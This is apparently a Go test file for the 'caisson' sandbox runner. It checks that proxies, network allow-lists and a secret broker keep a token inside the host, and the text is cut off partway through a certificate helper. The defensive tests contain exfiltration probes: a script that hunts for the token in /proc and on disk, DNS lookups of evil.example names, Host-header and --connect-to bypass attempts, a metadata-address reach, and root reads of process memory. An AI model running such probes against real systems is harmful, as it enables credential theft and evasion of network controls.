package app_test

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/caissonrun/caisson"
	"github.com/caissonrun/caisson/app"
	"github.com/caissonrun/caisson/executor"
	"github.com/caissonrun/caisson/internal/slowtest"
)

// token is what must never be seen inside of a sandbox.
const token = "tok-0f9e8d7c6b5a4e3d"

// An outside is what gateways of a test lead to: names with public addresses,
// which are servers on this host's loopback device.
type outside struct {
	names map[string][]netip.Addr
	at    map[netip.AddrPort]string // where the server of an address really is
}

func newOutside() *outside {
	return &outside{names: make(map[string][]netip.Addr), at: make(map[netip.AddrPort]string)}
}

// add gives a server a name, with an address and port as if it were public.
func (o *outside) add(name, public string, server net.Listener) {
	at := netip.MustParseAddrPort(public)
	if !slices.Contains(o.names[name], at.Addr()) {
		o.names[name] = append(o.names[name], at.Addr())
	}
	o.at[at] = server.Addr().String()
}

func (o *outside) lookup(_ context.Context, name string) ([]netip.Addr, error) {
	if list := o.names[name]; len(list) > 0 {
		return list, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: name, IsNotFound: true}
}

func (o *outside) dial(ctx context.Context, to netip.AddrPort) (net.Conn, error) {
	at := to.String()
	if real, ok := o.at[to]; ok {
		at = real
	} else if !to.Addr().IsLoopback() {
		return nil, fmt.Errorf("the test has no network to reach %s", to)
	}
	return new(net.Dialer).DialContext(ctx, "tcp", at)
}

// gated returns an app whose engine, native unless changed, can have gateways.
func gated(t *testing.T, opts *app.Options) *app.App {
	return gatedConfig(t, opts, func(*app.Config) {})
}

func gatedConfig(t *testing.T, opts *app.Options, change func(*app.Config)) *app.App {
	t.Helper()
	// Not t.TempDir, whose name is too long for sockets.
	dir, err := os.MkdirTemp("", "ag")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	cfg := load(t)
	cfg.State, cfg.Runtime = filepath.Join(dir, "state"), filepath.Join(dir, "run")
	cfg.Executor.Prefer = []string{"native"}
	change(cfg)
	a, err := app.New(cfg, opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { a.Close() })
	list, err := a.Executor.Engines(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range list {
		if e.Name == cfg.Executor.Prefer[0] && !e.Features.Gateway {
			if os.Geteuid() == 0 {
				t.Fatalf("%s has no gateways: %s %+v", e.Name, e.Error, e.Features.Missing)
			}
			t.Skip("this user can make no network namespaces")
		}
	}
	return a
}

// runGated runs a task and returns what it said.
func runGated(t *testing.T, a *app.App, task *caisson.Task) (string, *caisson.Result) {
	t.Helper()
	secrets := make(map[string][]byte)
	for name := range task.Secrets {
		secrets[name] = []byte(token)
	}
	if task.Timeout == 0 {
		task.Timeout = caisson.Duration(2 * time.Minute)
	}
	id, err := a.Executor.Submit(t.Context(), task, &executor.Submission{BaseDir: t.TempDir(), Trusted: true, Secrets: secrets})
	if err != nil {
		t.Fatal(err)
	}
	defer a.Executor.Remove(t.Context(), id, true)
	if err := a.Executor.Attend(t.Context(), id, false); err != nil {
		t.Fatal(err)
	}
	result, err := a.Executor.Wait(t.Context(), id)
	if err != nil {
		t.Fatal(err)
	}
	return logOf(t, a, id), result
}

func logOf(t *testing.T, a *app.App, id string) string {
	t.Helper()
	var out strings.Builder
	err := a.Executor.Logs(t.Context(), id, executor.LogOptions{}, func(r executor.LogRecord) error {
		out.Write(r.Data)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// quiet is for servers that clients of a test hang up on.
var quiet = log.New(io.Discard, "", 0)

// listen returns a server at an address of this host's loopback network.
func listen(t *testing.T, address string, h http.HandlerFunc) *httptest.Server {
	t.Helper()
	l, err := net.Listen("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	s := &httptest.Server{Listener: l, Config: &http.Server{Handler: h, ErrorLog: quiet}}
	t.Cleanup(s.Close)
	return s
}

// says is a handler that tells who it is and what it was asked.
func says(who string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "%s %s %s\n", who, r.Host, r.URL.Path) }
}

func wantLines(t *testing.T, out string, want ...string) {
	t.Helper()
	for _, line := range want {
		if !strings.Contains(out, line) {
			t.Errorf("it said\n%s\nwant %q", out, line)
		}
	}
}

// wantBlocked holds that exactly these were blocked, in any order.
func wantBlocked(t *testing.T, r *caisson.Result, want ...string) {
	t.Helper()
	var got []string
	for _, b := range r.Blocked {
		got = append(got, b.String())
	}
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("blocked\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

const webSocket = `
import base64, os, socket, struct
s = socket.create_connection(("app", 80), 20)
s.sendall(b"GET /socket HTTP/1.1\r\nHost: app\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + base64.b64encode(os.urandom(16)) + b"\r\n\r\n")
f = s.makefile("rb")
print(f.readline().decode().strip())
while f.readline().strip(): pass
for text in (b"one", b"two"):
    s.sendall(bytes([0x81, 0x80 | len(text), 0, 0, 0, 0]) + text)
    head = f.read(2)
    print("websocket", f.read(head[1]).decode())
`

// serveFrames is a server of websockets that says everything again.
func serveFrames(w http.ResponseWriter) {
	conn, rw, err := w.(http.Hijacker).Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	fmt.Fprint(rw, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
	rw.Flush()
	for {
		head := make([]byte, 6)
		if _, err := io.ReadFull(rw, head); err != nil {
			return
		}
		text := make([]byte, head[1]&0x7f)
		if _, err := io.ReadFull(rw, text); err != nil {
			return
		}
		rw.Write(append([]byte{0x81, byte(len(text))}, text...))
		rw.Flush()
	}
}

// TestProxyHandler holds what a program of a library caller's handler gets: its
// own requests, streams, upgrades, and a life after panics.
func TestProxyHandler(t *testing.T) {
	heard := make(chan struct{})
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/stream":
			// The second part comes only once the first has been heard inside.
			fmt.Fprintln(w, "first part")
			w.(http.Flusher).Flush()
			select {
			case <-heard:
			case <-r.Context().Done():
				return
			}
			fmt.Fprintln(w, "second part")
		case "/heard":
			close(heard)
		case "/count":
			n, _ := io.Copy(io.Discard, r.Body)
			fmt.Fprintf(w, "%s %d bytes\n", r.Method, n)
		case "/panic":
			panic("a handler's bug")
		case "/socket":
			serveFrames(w)
		case "/":
			fmt.Fprintf(w, "host %s query %s\n", r.Host, r.URL.RawQuery)
		default:
			http.NotFound(w, r)
		}
	})
	a := gated(t, &app.Options{Proxies: map[string]http.Handler{"mine": handler}})
	script := `
curl -sS 'http://app/?a=b'
curl -sS -o /dev/null -w 'status %{http_code}\n' http://app/none
curl -sSN http://app/stream | while read -r line; do
  echo "$line"
  case $line in first*) curl -sS http://app/heard;; esac
done
head -c 3000000 /dev/zero | curl -sS -T - http://app/count
curl -sS -o /dev/null -w 'panic %{http_code}\n' http://app/panic
curl -sS 'http://app/?still=there'
python3 -c "$SOCKET"
getent hosts app
for port in 8080 443; do curl -sS -m 5 http://app:$port/ >/dev/null 2>&1 && echo "port $port answers"; done
curl -sS -m 5 http://127.0.0.1/ >/dev/null 2>&1 && echo "there is more than its name"
true`
	out, result := runGated(t, a, &caisson.Task{
		Program: caisson.Program{Run: script, Env: map[string]string{"SOCKET": webSocket}},
		Proxies: map[string]caisson.Proxy{"app": {Upstream: "mine"}},
	})
	if !result.Success {
		t.Errorf("result %+v", result)
	}
	wantLines(t, out,
		"host app query a=b\n", "status 404\n", "first part\nsecond part\n", "PUT 3000000 bytes\n", "panic 500\n", "host app query still=there\n",
		"HTTP/1.1 101 Switching Protocols\nwebsocket one\nwebsocket two\n",
	)
	for _, wrong := range []string{"answers", "there is more"} {
		if strings.Contains(out, wrong) {
			t.Errorf("it said %q", wrong)
		}
	}
}

// TestProxySteps holds that every step is served, and nobody else's sandbox is.
func TestProxySteps(t *testing.T) {
	var asked atomic.Int64
	a := gated(t, &app.Options{Proxies: map[string]http.Handler{"mine": http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		fmt.Fprintf(w, "%s\n", r.URL.Path)
	})}})
	step := func(name string) []caisson.Step {
		return []caisson.Step{{Program: caisson.Program{Run: "curl -sS http://app/" + name}}}
	}
	out, result := runGated(t, a, &caisson.Task{
		Program: caisson.Program{Run: "curl -sS http://app/main; while [ ! -e seen ]; do sleep 0.02; done"},
		Pre:     step("pre"), Post: step("post"), Finally: step("finally"),
		Sidecars: []caisson.Step{{Program: caisson.Program{Run: "curl -sS http://app/sidecar && touch seen; sleep 100"}}},
		Proxies:  map[string]caisson.Proxy{"app": {Upstream: "mine"}},
	})
	if !result.Success {
		t.Errorf("result %+v", result)
	}
	wantLines(t, out, "/pre\n", "/main\n", "/sidecar\n", "/post\n", "/finally\n")
	before := asked.Load()
	out, _ = runGated(t, a, &caisson.Task{Program: caisson.Program{Run: `
for host in app 127.64.0.1 127.64.64.1; do curl -sS -m 5 http://$host/ >/dev/null 2>&1 && echo "$host answers"; done; true`}})
	if strings.Contains(out, "answers") || asked.Load() != before {
		t.Errorf("a task without proxies said %q", out)
	}
}

// gitServer serves a repository to who knows the token.
func gitServer(t *testing.T) *httptest.Server {
	t.Helper()
	dir := t.TempDir()
	work, bare := filepath.Join(dir, "work"), filepath.Join(dir, "hello.git")
	git := func(args ...string) {
		cmd := exec.Command("git", args...)
		cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+dir)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %q: %v: %s", args, err, out)
		}
	}
	git("init", "-q", "-b", "main", work)
	if err := os.WriteFile(filepath.Join(work, "hello.txt"), []byte("cloned\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	git("-C", work, "add", ".")
	git("-C", work, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "one")
	git("clone", "-q", "--bare", work, bare)
	path, err := exec.Command("git", "--exec-path").Output()
	if err != nil {
		t.Fatal(err)
	}
	backend := &cgi.Handler{
		Path:   filepath.Join(strings.TrimSpace(string(path)), "git-http-backend"),
		Env:    []string{"GIT_PROJECT_ROOT=" + dir, "GIT_HTTP_EXPORT_ALL=1", "HOME=" + dir, "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"},
		Logger: quiet, Stderr: io.Discard,
	}
	return listen(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) {
		_, password, _ := r.BasicAuth()
		if r.Header.Get("Authorization") != "Bearer "+token && password != token {
			w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
			http.Error(w, "who are you?", http.StatusUnauthorized)
			return
		}
		backend.ServeHTTP(w, r)
	})
}

// hunt looks for something that looks like the token wherever a program may look,
// without being told all of it.
const hunt = `
half=tok-0f9e
rest=8d7c6b5a4e3d
python3 - $half $rest <<'END'
import base64, os, sys
want = (sys.argv[1] + sys.argv[2]).encode()
def look(where, data):
    for form in (want, base64.b64encode(want)):
        if form in data: print("FOUND in", where)
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try: look("/proc/%s/%s" % (pid, name), open("/proc/%s/%s" % (pid, name), "rb").read())
        except OSError: pass
for top in ("/work", "/tmp", "/run", "/etc", "/dev/shm", "/var"):
    for folder, _, files in os.walk(top):
        for f in files:
            path = os.path.join(folder, f)
            try:
                if os.path.isfile(path): look(path, open(path, "rb").read())
            except OSError: pass
print("hunted")
END
`

// TestGitThroughProxy clones with real git from a server that wants a token,
// which is nowhere inside.
func TestGitThroughProxy(t *testing.T) {
	server := gitServer(t)
	server.Start()
	dir := t.TempDir()
	file := filepath.Join(dir, "token")
	if err := os.WriteFile(file, []byte(token+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	config := filepath.Join(dir, "caisson.toml")
	text := fmt.Sprintf("[proxy.repositories]\nurl = %q\ntoken_file = %q\n", server.URL, file)
	if err := os.WriteFile(config, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg, err := app.LoadConfig(&app.ConfigOptions{File: config, Environ: []string{"HOME=" + dir}})
	if err != nil {
		t.Fatal(err)
	}
	if cfg.Proxies["repositories"].TokenFile != file {
		t.Fatalf("proxies %+v", cfg.Proxies)
	}
	proxies := cfg.Proxies
	a := gatedConfig(t, nil, func(c *app.Config) { c.Proxies = proxies })
	out, result := runGated(t, a, &caisson.Task{
		Program: caisson.Program{Run: "git clone -q http://git/hello.git && cat hello/hello.txt && git -C hello remote -v\n" + hunt},
		Proxies: map[string]caisson.Proxy{"git": {Upstream: "repositories"}},
	})
	if !result.Success {
		t.Errorf("result %+v", result)
	}
	wantLines(t, out, "cloned\n", "http://git/hello.git", "hunted\n")
	if strings.Contains(out, "FOUND") {
		t.Errorf("it said\n%s", out)
	}
}

// TestAllowAddresses reaches a server by its address and nothing else: by no
// other address, port or name, and by no redirect.
func TestAllowAddresses(t *testing.T) {
	one := listen(t, "127.0.0.1:0", nil)
	_, port, _ := net.SplitHostPort(one.Listener.Addr().String())
	other := listen(t, "127.0.0.2:0", says("other"))
	same := listen(t, "127.0.0.2:"+port, says("same port"))
	one.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/away" {
			http.Redirect(w, r, "http://"+same.Listener.Addr().String()+"/", http.StatusFound)
			return
		}
		says("one")(w, r)
	})
	for _, s := range []*httptest.Server{one, other, same} {
		s.Start()
	}
	a := gated(t, nil)
	at := "127.0.0.1:" + port
	out, result := runGated(t, a, &caisson.Task{
		Program: caisson.Program{Run: fmt.Sprintf(`
curl -sS http://%[1]s/direct
curl -sS -L http://%[1]s/away
for url in http://127.0.0.2:%[2]s/ "http://[::1]:%[2]s/" "http://[::ffff:127.0.0.1]:%[2]s/mapped" http://%[3]s/ http://localhost:%[2]s/localhost; do
  curl -sS -m 10 -o body -w "$url %%{http_code}\n" "$url" 2>/dev/null
done
exit 0`, at, port, other.Listener.Addr())},
		Network: caisson.Network{Mode: caisson.NetworkAllow, Allow: []string{at}},
	})
	wantLines(t, out, "one "+at+" /direct\n", "http://127.0.0.2:"+port+"/ 403\n", "http://[::1]:"+port+"/ 403\n", "http://"+other.Listener.Addr().String()+"/ 000\n")
	for _, wrong := range []string{"same port", "other "} {
		if strings.Contains(out, wrong) {
			t.Errorf("it said\n%s\nand reached %q", out, wrong)
		}
	}
	const why = ": not in network.allow"
	wantBlocked(t, result, "127.0.0.2:"+port+why, "[::1]:"+port+why,
		fmt.Sprintf("[::ffff:127.0.0.1]:%s: asked for on a connection to %s", port, at))
}

// ask is a question to the resolver of the sandbox, with the standard library of
// Python alone.
const ask = `
import socket, struct, sys
def ask(server, name, kind=1):
    q = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0)
    for part in name.split("."): q += bytes([len(part)]) + part.encode()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(q + b"\0" + struct.pack(">2H", kind, 1), (server, 53))
        return s.recv(4096)
    except OSError as e: return None
for server in ("8.8.8.8", "1.1.1.1"):
    if ask(server, "data.evil.example", 16): print("a resolver elsewhere answers")
try:
    for info in socket.getaddrinfo("secret-data.evil.example", 443):
        if not info[4][0].startswith("127.65."): print("an address of a name that is not allowed", info[4])
except OSError: pass
print("asked")
`

// TestAllowNames holds that names lead where they were checked to lead, and
// that only what the lists name is reached by them.
func TestAllowNames(t *testing.T) {
	slowtest.Skip(t)
	o := newOutside()
	good := listen(t, "127.0.0.1:0", says("good"))
	secure := listen(t, "127.0.0.1:0", says("secure"))
	evil := listen(t, "127.0.0.1:0", says("evil"))
	good.Start()
	evil.Start()
	secure.TLS = &tls.Config{}
	secure.StartTLS()
	o.add("good.example", "93.184.215.10:80", good.Listener)
	o.add("good.example", "93.184.215.10:443", secure.Listener)
	o.add("sub.wild.example", "93.184.215.11:80", good.Listener)
	o.add("evil.example", "93.184.215.66:80", evil.Listener)
	o.names["inward.example"] = []netip.Addr{netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("169.254.169.254")}
	a := gated(t, &app.Options{Lookup: func(ctx context.Context, name string) ([]netip.Addr, error) {
		if strings.Contains(name, "evil") {
			t.Errorf("%q was asked for outside", name)
		}
		return o.lookup(ctx, name)
	}, Dial: o.dial})
	out, result := runGated(t, a, &caisson.Task{
		Program: caisson.Program{Run: `
curl -sS http://good.example/plain
curl -sS http://GOOD.example./dots
curl -sSk https://good.example/tls
curl -sS http://sub.wild.example/below
try() { curl -sS -m 10 -o body -w "$1 %{http_code}\n" "$@" 2>/dev/null; }
try http://evil.example/
try http://wild.example/
try http://93.184.215.10/ip
try -H 'Host: evil.example' http://good.example/fronted
try -k https://evil.example --connect-to evil.example:443:good.example:443
try http://inward.example/
try http://good.example:8080/
python3 -c "$ASK"`, Env: map[string]string{"ASK": ask}},
		Network: caisson.Network{Mode: caisson.NetworkAllow, Allow: []string{
			"good.example:80", "good.example:443", "*.wild.example:80", "inward.example:80",
		}},
	})
	if !result.Success {
		t.Errorf("result %+v", result)
	}
	wantLines(t, out,
		"good good.example /plain\n", "/dots\n", "secure good.example /tls\n", "good sub.wild.example /below\n",
		"http://evil.example/ 403\n", "http://wild.example/ 403\n", "http://93.184.215.10/ip 403\n", "asked\n",
	)
	if strings.Contains(out, "evil evil") || strings.Contains(out, "resolver elsewhere") || strings.Contains(out, "not allowed (") {
		t.Errorf("it said\n%s", out)
	}
	if n := strings.Count(out, " 200\n"); n != 0 {
		t.Errorf("%d of what is not allowed was answered:\n%s", n, out)
	}
	for _, want := range []string{"evil.example:80", "wild.example:80", "93.184.215.10:80"} {
		if !slices.ContainsFunc(result.Blocked, func(b caisson.Blocked) bool { return strings.HasPrefix(b.String(), want+": ") }) {
			t.Errorf("blocked %v, want %s among them", result.Blocked, want)
		}
	}
}

// brokered is a server that wants the token and says it again, in every form.
func brokered(seen chan<- string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/git" {
			return
		}
		select {
		case seen <- r.Header.Get("Authorization"):
		default:
		}
		w.Header().Set("X-Reflected", r.Header.Get("Authorization"))
		ok := strings.Contains(r.Header.Get("Authorization"), token)
		if user, password, basic := r.BasicAuth(); basic {
			ok = user == "me" && password == token
		}
		fmt.Fprintf(w, "right value: %v\n", ok)
		// In pieces, as a stream would have it.
		for _, c := range token {
			fmt.Fprintf(w, "%c", c)
			w.(http.Flusher).Flush()
		}
		fmt.Fprintf(w, "\n%s\n%s\n", r.Header.Get("Authorization"), base64.StdEncoding.EncodeToString([]byte(token)))
	}
}

// TestBroker holds that a secret's value is only ever where it belongs.
func TestBroker(t *testing.T) {
	o := newOutside()
	seen := make(chan string, 100)
	api := listen(t, "127.0.0.1:0", brokered(seen))
	api.TLS = serverTLS(t, "api.example.com")
	api.StartTLS()
	var wrong atomic.Value
	wrong.Store("")
	foreign := listen(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) {
		wrong.Store(r.Header.Get("Authorization"))
		fmt.Fprintln(w, "thank you")
	})
	foreign.TLS = &tls.Config{}
	foreign.StartTLS()
	o.add("api.example.com", "93.184.215.20:443", api.Listener)
	o.add("other.example.com", "93.184.215.21:443", foreign.Listener)
	a := gated(t, &app.Options{Lookup: o.lookup, Dial: o.dial, Roots: roots})
	for _, network := range []caisson.Network{{}, {Mode: caisson.NetworkAllow, Allow: []string{"other.example.com:443"}}} {
		out, result := runGated(t, a, &caisson.Task{
			Network: network,
			Program: caisson.Program{Run: `
curl -sSi -o answer -H "Authorization: Bearer $TOKEN" https://api.example.com/curl; cat answer
curl -sS --compressed -u "me:$TOKEN" https://api.example.com/basic
python3 - <<'END'
import os, urllib.request
r = urllib.request.Request("https://api.example.com/python", headers={"Authorization": "token " + os.environ["TOKEN"]})
print("python", urllib.request.urlopen(r, timeout=20).read().decode())
END
[ "$(cat /run/secrets/FILE)" != "$TOKEN" ] && echo "two placeholders"
curl -sSk -m 10 -H "Authorization: Bearer $TOKEN" https://other.example.com/ || echo "not reached"
` + hunt},
			Secrets: map[string]caisson.Secret{
				"TOKEN": {From: "env:X", Broker: &caisson.Broker{Host: "api.example.com"}},
				"FILE":  {From: "env:X", As: "file", Broker: &caisson.Broker{Host: "api.example.com", Header: "X-Key"}},
			},
		})
		if !result.Success {
			t.Errorf("result %+v", result)
		}
		if n := strings.Count(out, "right value: true\n"); n != 3 {
			t.Errorf("%d requests had the value, want 3:\n%s", n, out)
		}
		wantLines(t, out, "two placeholders\n", "hunted\n")
		for _, leak := range []string{token, base64.StdEncoding.EncodeToString([]byte(token)), "FOUND"} {
			if strings.Contains(out, leak) {
				t.Errorf("with network %+v it said %q:\n%s", network, leak, out)
			}
		}
		if got := wrong.Load().(string); strings.Contains(got, token) {
			t.Errorf("another host got %q", got)
		}
	}
	if got := wrong.Load().(string); !strings.HasPrefix(got, "Bearer CAISSON_PLACEHOLDER_") {
		t.Errorf("the host that is allowed got %q, want the placeholder", got)
	}
	if len(seen) == 0 {
		t.Error("nobody asked the right host")
	}
}

// TestBrokerWrongPlain holds that a placeholder on its way to somebody else is
// stopped where that can be seen, and told.
func TestBrokerWrongPlain(t *testing.T) {
	o := newOutside()
	var asked atomic.Bool
	other := listen(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) { asked.Store(true) })
	other.Start()
	o.add("other.example.com", "93.184.215.21:80", other.Listener)
	a := gated(t, &app.Options{Lookup: o.lookup, Dial: o.dial})
	out, result := runGated(t, a, &caisson.Task{
		Network: caisson.Network{Mode: caisson.NetworkAllow, Allow: []string{"other.example.com:80"}},
		Program: caisson.Program{Run: `curl -sS -m 10 -w '\nstatus %{http_code}\n' -H "Authorization: Bearer $TOKEN" http://other.example.com/`},
		Secrets: map[string]caisson.Secret{"TOKEN": {From: "env:X", Broker: &caisson.Broker{Host: "api.example.com"}}},
	})
	wantLines(t, out, "status 403\n")
	if asked.Load() || len(result.Blocked) != 1 || !strings.HasPrefix(result.Blocked[0].String(), "other.example.com:80: ") {
		t.Errorf("asked %v, blocked %v, want one refusal of other.example.com:80", asked.Load(), result.Blocked)
	}
}

// TestBrokerGit clones with real git, whose password is a placeholder.
func TestBrokerGit(t *testing.T) {
	o := newOutside()
	server := gitServer(t)
	server.TLS = serverTLS(t, "git.example.com")
	server.StartTLS()
	o.add("git.example.com", "93.184.215.30:443", server.Listener)
	a := gated(t, &app.Options{Lookup: o.lookup, Dial: o.dial, Roots: roots})
	out, result := runGated(t, a, &caisson.Task{
		Program: caisson.Program{Run: `git clone -q "https://me:$TOKEN@git.example.com/hello.git" && cat hello/hello.txt` + "\n" + hunt},
		Secrets: map[string]caisson.Secret{"TOKEN": {From: "env:X", Broker: &caisson.Broker{Host: "git.example.com"}}},
	})
	if !result.Success {
		t.Errorf("result %+v", result)
	}
	wantLines(t, out, "cloned\n", "hunted\n")
	if strings.Contains(out, "FOUND") || strings.Contains(out, token) {
		t.Errorf("it said\n%s", out)
	}
}

// TestUpstreamsInTrouble holds that a task sees what is the matter with what it
// wants to reach: one line, soon.
func TestUpstreamsInTrouble(t *testing.T) {
	down := listen(t, "127.0.0.1:0", nil)
	address := down.Listener.Addr().String()
	down.Listener.Close()
	hanging := listen(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
	hanging.Start()
	file := filepath.Join(t.TempDir(), "absent")
	a := gatedConfig(t, nil, func(c *app.Config) {
		c.Proxies = map[string]app.Proxy{
			"down":    {URL: "http://" + address},
			"hanging": {URL: hanging.URL, Timeout: caisson.Duration(500 * time.Millisecond)},
			"broken":  {URL: hanging.URL, TokenFile: file},
		}
	})
	out, result := runGated(t, a, &caisson.Task{
		Program: caisson.Program{Run: `
for name in down hanging; do curl -sS -m 30 -w "$name %{http_code}\n" http://$name/; done; true`},
		Proxies: map[string]caisson.Proxy{"down": {Upstream: "down"}, "hanging": {Upstream: "hanging"}},
	})
	if !result.Success {
		t.Errorf("result %+v", result)
	}
	wantLines(t, out, "down 502\n", "hanging 504\n")
	for upstream, want := range map[string]string{
		"nobody": `proxies.abc.upstream: "nobody": the operator has configured no such upstream`,
		"broken": `proxies.abc.upstream: "broken": `,
	} {
		_, err := a.Executor.Submit(t.Context(), &caisson.Task{
			Program: caisson.Program{Run: "true"}, Proxies: map[string]caisson.Proxy{"abc": {Upstream: upstream}},
		}, &executor.Submission{})
		if err == nil || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "\n") {
			t.Errorf("Submit = %v, want one line with %q", err, want)
		}
	}
}

// TestBrokerMemory looks, as root of the host, into the memory of all that runs
// in a sandbox, and at all that is on disk.
func TestBrokerMemory(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("only root can look into the memory of others")
	}
	o := newOutside()
	api := listen(t, "127.0.0.1:0", brokered(make(chan string, 1)))
	api.TLS = serverTLS(t, "api.example.com")
	api.StartTLS()
	o.add("api.example.com", "93.184.215.20:443", api.Listener)
	a := gated(t, &app.Options{Lookup: o.lookup, Dial: o.dial, Roots: roots})
	task := &caisson.Task{
		Program: caisson.Program{Run: `
python3 - <<'END'
import os, time, urllib.request
r = urllib.request.Request("https://api.example.com/", headers={"Authorization": os.environ["TOKEN"]})
kept = urllib.request.urlopen(r, timeout=20).read()
open("ready", "w").close()
time.sleep(100)
END`},
		Secrets: map[string]caisson.Secret{"TOKEN": {From: "env:X", Broker: &caisson.Broker{Host: "api.example.com"}}},
	}
	id, err := a.Executor.Submit(t.Context(), task, &executor.Submission{Trusted: true, Secrets: map[string][]byte{"TOKEN": []byte(token)}})
	if err != nil {
		t.Fatal(err)
	}
	defer a.Executor.Remove(context.WithoutCancel(t.Context()), id, true)
	ctx, cancel := context.WithCancel(t.Context())
	attended := make(chan error, 1)
	go func() { attended <- a.Executor.Attend(ctx, id, false) }()
	defer func() { cancel(); <-attended }()
	var info *executor.Info
	for deadline := time.Now().Add(time.Minute); ; time.Sleep(20 * time.Millisecond) {
		if info, err = a.Executor.Inspect(t.Context(), id); err != nil {
			t.Fatal(err)
		}
		ready, _ := filepath.Glob(filepath.Join(info.Dir, "*", "*", "work", "ready"))
		if more, _ := filepath.Glob(filepath.Join(info.Dir, "*", "*", "*", "work", "ready")); len(ready)+len(more) > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("it never had its answer: %s", logOf(t, a, id))
		}
	}
	inside := inNamespaceOf(t, info.PID)
	if len(inside) < 2 {
		t.Errorf("processes inside: %d, want its first one and python", len(inside))
	}
	placeholders := 0
	for _, pid := range inside {
		memory := memoryOf(t, pid)
		if strings.Contains(memory, token) {
			t.Errorf("the value is in the memory of process %d", pid)
		}
		placeholders += strings.Count(memory, "CAISSON_PLACEHOLDER_")
	}
	if placeholders == 0 {
		t.Error("not even the placeholder was found: the test looks at the wrong memory")
	}
	err = filepath.WalkDir(info.Dir, func(path string, d os.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			if data, _ := os.ReadFile(path); strings.Contains(string(data), token) {
				t.Errorf("the value is in %s", path)
			}
		}
		return nil
	})
	if err != nil {
		t.Error(err)
	}
}

// inNamespaceOf lists the processes in the pid namespace of a process.
func inNamespaceOf(t *testing.T, pid int) []int {
	t.Helper()
	want, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/pid", pid))
	if err != nil {
		t.Fatal(err)
	}
	if own, _ := os.Readlink("/proc/self/ns/pid"); own == want {
		t.Fatal("the program is in this test's pid namespace")
	}
	var list []int
	found, _ := filepath.Glob("/proc/[0-9]*/ns/pid")
	for _, path := range found {
		var other int
		if _, err := fmt.Sscanf(path, "/proc/%d/ns/pid", &other); err != nil {
			continue
		}
		if ns, _ := os.Readlink(path); ns == want {
			list = append(list, other)
		}
	}
	return list
}

// memoryOf returns what is in the memory of a process that can be read.
func memoryOf(t *testing.T, pid int) string {
	t.Helper()
	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		t.Fatal(err)
	}
	defer maps.Close()
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		t.Fatal(err)
	}
	defer mem.Close()
	var all strings.Builder
	for lines := bufio.NewScanner(maps); lines.Scan(); {
		var from, to uint64
		var rights string
		if _, err := fmt.Sscanf(lines.Text(), "%x-%x %s", &from, &to, &rights); err != nil || rights[:2] != "rw" || to-from > 256<<20 {
			continue
		}
		data := make([]byte, to-from)
		n, _ := mem.ReadAt(data, int64(from))
		all.Write(data[:n])
	}
	return all.String()
}

var roots = x509.NewCertPool()

// serverTLS is that of a server whose certificate roots trusts.
func serverTLS(t *testing.T, name string) *tls.Config {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()), DNSNames: []string{name}, IsCA: true, BasicConstraintsValid: true,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
